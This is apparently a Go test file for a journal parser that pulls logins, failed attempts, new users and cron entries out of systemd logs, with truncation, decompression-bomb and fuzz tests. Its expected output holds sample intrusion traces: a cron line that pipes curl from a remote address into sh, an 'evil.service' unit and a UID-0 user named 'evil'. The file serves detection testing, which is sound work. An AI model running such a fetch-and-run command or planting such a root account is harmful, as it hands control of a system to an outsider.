package logins

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"
	"github.com/pierrec/lz4/v4"
	"github.com/ulikunitz/xz"
)

// TestJournal reads journals written by systemd 252, with and without the compact format and keyed hashes.
func TestJournal(t *testing.T) {
	for _, name := range []string{"compact", "plain"} {
		fs := hostOf(t, "")
		fs.Put("/run/log/journal/0123/system.journal", unzip(t, name+".journal"))
		logins, events, gaps := Read(context.Background(), fs, time.Time{}, "UTC")
		var got []string
		for _, l := range logins {
			got = append(got, fmt.Sprintf("%s %s %s %s %s %d", l.Kind, l.User, l.From, l.Method, l.Key, l.Count))
		}
		for _, e := range events {
			got = append(got, fmt.Sprintf("%s %s %.50s", e.Kind, e.User, e.Text))
		}
		for _, want := range []string{
			"login ann 203.0.113.9 publickey SHA256:abc 0", "failed bob0 198.51.100.7 password  3", "failed bob1 198.51.100.7 password  4",
			"unit  evil.service", "user-added  new user: name=evil, UID=0, GID=0, home=/home/evil",
			"cron root curl -s http://198.51.100.9/x | sh) yyyyyyyyyyyyyy",
		} {
			if !strings.Contains("\n"+strings.Join(got, "\n")+"\n", "\n"+want+"\n") {
				t.Errorf("%s: no %q in\n%s", name, want, strings.Join(got, "\n"))
			}
		}
		if len(got) != 6 || len(gaps) != 0 {
			t.Errorf("%s: %d records and gaps %v, want 6 and none", name, len(got), gaps)
		}
	}
}

// TestForged: anyone can name himself sshd to the journal, but it notes his uid.
func TestForged(t *testing.T) {
	whole := unzip(t, "plain.journal")
	forged := bytes.ReplaceAll(whole, []byte("_UID=0\x00"), []byte("_UID=7\x00"))
	if bytes.Equal(whole, forged) {
		t.Fatal("the fixture has no _UID")
	}
	fs := hostOf(t, "")
	fs.Put("/run/log/journal/0123/system.journal", forged)
	if logins, events, _ := Read(context.Background(), fs, time.Time{}, "UTC"); len(logins)+len(events) > 0 {
		t.Errorf("believed: %v, %v", logins, events)
	}
}

// TestManyEntries: of a program that wrote more than is read, a gap is told only where what is asked for goes back so far.
func TestManyEntries(t *testing.T) {
	busy := unzip(t, "plain.journal")
	at := bytes.Index(busy, []byte("SYSLOG_IDENTIFIER=sshd"))
	if at < 64 {
		t.Fatal("the fixture has no sshd")
	}
	binary.LittleEndian.PutUint64(busy[at-8:], maxOfOne+1) // how many entries it has
	fs := hostOf(t, "")
	fs.Put("/run/log/journal/0123/system.journal", busy)
	list, _, gaps := Read(context.Background(), fs, time.Time{}, "UTC")
	if len(gaps) != 1 || len(list) == 0 {
		t.Fatalf("all of it: %v, gaps %v", list, gaps)
	}
	var first, last time.Time
	for _, l := range list {
		if last = l.Time; l.Kind == "login" || l.Kind == "failed" {
			first = l.Time
			break
		}
	}
	if _, _, gaps := Read(context.Background(), fs, first, "UTC"); len(gaps) != 0 {
		t.Errorf("since %s, the latest of up to %s: %v", first, last, gaps)
	}
}

// TestJournalCut cuts a journal at many places; what is lost is a gap, never a panic.
func TestJournalCut(t *testing.T) {
	whole := unzip(t, "compact.journal")
	used := len(bytes.TrimRight(whole, "\x00"))
	for i := range 60 {
		fs := hostOf(t, "")
		fs.Put("/run/log/journal/0123/system.journal", whole[:used*i/60])
		if _, _, gaps := Read(context.Background(), fs, time.Time{}, "UTC"); len(gaps) == 0 {
			t.Errorf("cut at %d/60: no gap", i)
		}
	}
}

func TestUnpack(t *testing.T) {
	long := bytes.Repeat([]byte("MESSAGE=long "), 1000)
	var x bytes.Buffer
	w, err := xz.NewWriter(&x)
	if err != nil {
		t.Fatal(err)
	}
	w.Write(long)
	w.Close()
	block := make([]byte, lz4.CompressBlockBound(len(long)))
	n, err := lz4.CompressBlock(long, block, nil)
	if err != nil {
		t.Fatal(err)
	}
	z, err := zstd.NewWriter(nil)
	if err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		flags  byte
		packed []byte
	}{
		"xz": {packedXZ, x.Bytes()}, "zstd": {packedZstd, z.EncodeAll(long, nil)}, "plain": {0, long},
		"lz4": {packedLZ4, append(binary.LittleEndian.AppendUint64(nil, uint64(len(long))), block[:n]...)},
	} {
		if got, err := unpack(c.flags, c.packed); err != nil || !bytes.Equal(got, long) {
			t.Errorf("%s: %d bytes, %v", name, len(got), err)
		}
		if c.flags != 0 {
			if got, err := unpack(c.flags, []byte("no such packing at all")); err == nil && len(got) > 0 {
				t.Errorf("%s of garbage gives %q", name, got)
			}
		}
	}
	bomb := z.EncodeAll(make([]byte, 64<<20), nil)
	if got, err := unpack(packedZstd, bomb); err != nil || len(got) != maxPayload {
		t.Errorf("a packed bomb gives %d bytes, %v; want it cut", len(got), err)
	}
}

// FuzzJournal changes bytes of a journal that systemd wrote: each edit is three bytes of place and one of value.
func FuzzJournal(f *testing.F) {
	var bases [][]byte
	for _, name := range []string{"compact.journal", "plain.journal"} {
		bases = append(bases, append(bytes.TrimRight(unzip(f, name), "\x00"), make([]byte, 64)...))
	}
	f.Add(0, []byte{0, 0, 100, 255})
	f.Add(1, []byte{0, 0, 178, 1, 0, 1, 8, 2})
	f.Fuzz(func(t *testing.T, which int, edits []byte) {
		data := bytes.Clone(bases[which&1])
		for ; len(edits) >= 4; edits = edits[4:] {
			data[(int(edits[0])<<16|int(edits[1])<<8|int(edits[2]))%len(data)] = edits[3]
		}
		fs := hostOf(t, "")
		fs.Put("/run/log/journal/0123/system.journal", data)
		Read(context.Background(), fs, time.Time{}, "UTC")
	})
}

func FuzzUnpack(f *testing.F) {
	f.Add(byte(packedLZ4), []byte("\x08\x00\x00\x00\x00\x00\x00\x00abc"))
	f.Add(byte(packedZstd), []byte("\x28\xb5\x2f\xfd\x04\x00"))
	f.Add(byte(packedXZ), []byte("\xfd7zXZ\x00"))
	f.Fuzz(func(t *testing.T, flags byte, b []byte) {
		if got, _ := unpack(flags, b); len(got) > maxPayload {
			t.Errorf("%d bytes", len(got))
		}
	})
}
